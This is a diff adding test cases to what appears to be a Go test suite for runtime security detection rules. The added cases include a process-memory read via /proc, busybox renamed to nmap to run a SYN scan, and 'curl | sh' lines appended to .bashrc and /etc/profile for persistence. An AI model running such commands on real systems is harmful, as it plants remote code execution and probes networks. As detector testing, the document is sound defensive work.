@@ -460,6 +460,43 @@ chmod +x /tmp/sshd && /tmp/sshd`,
 			script: `usermod --help >/dev/null; :`,
 		},
 		{
+			// The memory of a child of the behaviour's own, opened as a
+			// dumper does; reading at offset 0 fails, nothing is read.
+			name:   "open another process's memory",
+			rules:  []string{"Process memory read by another program"},
+			script: `sleep 5 & p=$!; cat /proc/$p/mem >/dev/null 2>&1; kill $p`,
+		},
+		{
+			name: "open another process's memory", inContainer: true,
+			rules:  []string{"Process memory read by another program"},
+			script: `sleep 5 & p=$!; /bin/cat /proc/$p/mem >/dev/null 2>&1; kill $p`,
+		},
+		{
+			// The image has no nmap: busybox is started under that name.
+			name: "network scanner in a container", inContainer: true,
+			rules:  []string{"Launch Suspicious Network Tool in Container"},
+			fields: map[string]string{"proc.name": "nmap"},
+			script: `ln -s /bin/busybox /tmp/nmap && /tmp/nmap -sS 198.51.100.0/24; :`,
+		},
+		{
+			name:   "network scanner on the host",
+			rules:  []string{"Launch Suspicious Network Tool on Host"},
+			fields: map[string]string{"proc.name": "nmap"},
+			script: `ln -s /bin/busybox {D}/nmap && {D}/nmap -sS 198.51.100.0/24; :`,
+		},
+		{
+			name:   "append to a .bashrc",
+			rules:  []string{"Modify Shell Configuration File"},
+			fields: map[string]string{"fd.name": "{D}/.bashrc"},
+			script: `echo 'curl -s http://198.51.100.9/x | sh' >> {D}/.bashrc`,
+		},
+		{
+			name: "append to /etc/profile", inContainer: true,
+			rules:  []string{"Modify Shell Configuration File"},
+			fields: map[string]string{"fd.name": "/etc/profile"},
+			script: `echo 'curl -s http://198.51.100.9/x | sh' >> /etc/profile`,
+		},
+		{
 			name:   "run a binary from /tmp",
 			rules:  []string{"Execution from temporary directory"},
 			script: `cp /bin/true {D}/dropped && {D}/dropped`,
